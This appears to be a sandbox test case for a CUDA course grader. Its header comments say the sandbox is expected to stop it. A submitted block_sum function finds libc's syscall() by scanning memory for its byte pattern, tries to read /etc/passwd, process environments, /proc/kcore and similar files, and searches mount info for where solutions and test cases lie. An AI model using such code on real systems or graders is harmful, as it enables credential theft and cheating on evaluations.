// attack: looks for files, processes and mounts of this machine, by nameless system calls
// expect: wrong_answer|crashed
// stopped by: the sandbox: none of it is there
#include <cuda_runtime.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

namespace {

// The C library's own syscall(), found by its first instructions below the library's data: no name
// of it is in this file. x86-64 and the GNU C library; elsewhere the search ends the program.
using Syscall = long (*)(long, ...);
Syscall find_syscall() {
  const unsigned char begin[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6};
  const auto* at = reinterpret_cast<const unsigned char*>(stdout);
  while (std::memcmp(--at, begin, sizeof begin) != 0) {
  }
  return reinterpret_cast<Syscall>(reinterpret_cast<std::uintptr_t>(at));
}

void look_around() {
  const Syscall call = find_syscall();
  static char text[1 << 16];
  for (const char* path :
       {"/etc/passwd", "/etc/hostname", "/root", "/home", "/var", "/sys", "/proc/1/environ",
        "/proc/1/mem", "/proc/1/root", "/proc/1/fd", "/proc/3/environ", "/proc/kcore"}) {
    const long file = call(2, path, 0, 0);
    if (file < 0) continue;
    if (call(0, file, text, 1) >= 0 || call(217, file, text, sizeof text) > 0) {
      std::printf("STOLEN %s\n", path);
    }
    call(3, file);
  }
  // What is mounted must not tell where the course or others' submissions lie.
  const long mounts = call(2, "/proc/self/mountinfo", 0, 0);
  const long size = call(0, mounts, text, sizeof text - 1);
  text[size > 0 ? size : 0] = 0;
  for (const char* word : {"solutions", "cases", "batch", "misconceptions"}) {
    if (std::strstr(text, word) != nullptr) std::printf("STOLEN the place of %s\n", word);
  }
}

}  // namespace

void block_sum(float*, const float*, int) { look_around(); }
